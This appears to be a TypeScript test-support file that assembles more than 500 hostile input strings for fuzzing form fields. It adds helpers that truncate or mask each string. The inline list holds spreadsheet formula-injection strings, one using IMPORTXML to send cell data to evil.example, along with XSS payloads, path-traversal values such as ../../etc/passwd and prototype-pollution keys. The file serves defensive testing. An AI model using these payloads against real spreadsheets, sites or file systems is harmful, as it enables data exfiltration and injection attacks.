import { readFileSync } from 'node:fs'
import { plainText } from '#domain/plain-text.ts'
import { hostileTexts } from '#test/support/hostile-texts.ts'

const blns: string[] = JSON.parse(readFileSync(new URL('../../fixtures/blns/blns.json', import.meta.url), 'utf8'))

/** Formulas as spreadsheets take them, in half and full width, after blanks; ways to run a script; names of paths. */
const more: readonly string[] = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' =1+1',
    '\t=1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
  ],
  ...['=HYPERLINK("https://evil.example","点此")', '=IMPORTXML("https://evil.example/"&A1,"//a")', '=_x000D_'],
  ...['<script>window.__xss=1</script>', '<img src=x onerror="window.__xss=1">', '"><script>window.__xss=1</script>'],
  ...["'-window.__xss-'", '</textarea><script>window.__xss=1</script>', '</title><script>window.__xss=1</script>'],
  ...['</option></select><img src=x onerror=window.__xss=1>', '<svg><script>window.__xss=1</script></svg>'],
  ...['<math><mtext></table><img src=x onerror=window.__xss=1>', '<details open ontoggle=window.__xss=1>'],
  ...[
    '<input autofocus onfocus=window.__xss=1>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  ],
  ...[
    '../../etc/passwd',
    '..\\..\\windows\\system32',
    'a/../../b.txt',
    'CON',
    'nul.txt',
    '/etc/passwd\0.pdf',
    '%2e%2e%2f',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-0',
    '1e1000',
  ],
]

/** More than 500 texts that break something somewhere. */
export const naughty: readonly string[] = [...new Set([...blns, ...hostileTexts, ...more])].filter(text => text !== '')

/** As much of it as a field takes, and something that is seen. */
export function fitting(text: string, most: number): string {
  const cut = text.slice(0, most)
  return plainText(cut).trim() === '' ? `甲${cut.slice(0, most - 1)}` : cut
}

/** As long as what a form reads of it, in as many lines and with the same blanks, and without harm; its number first. */
export const meek = (text: string, n: number): string => {
  const number = Array.from(String(n))
  const signs = Array.from(plainText(text).trim())
  return signs.map((sign, at) => (/\s/.test(sign) ? sign : (number[at] ?? '甲'))).join('')
}
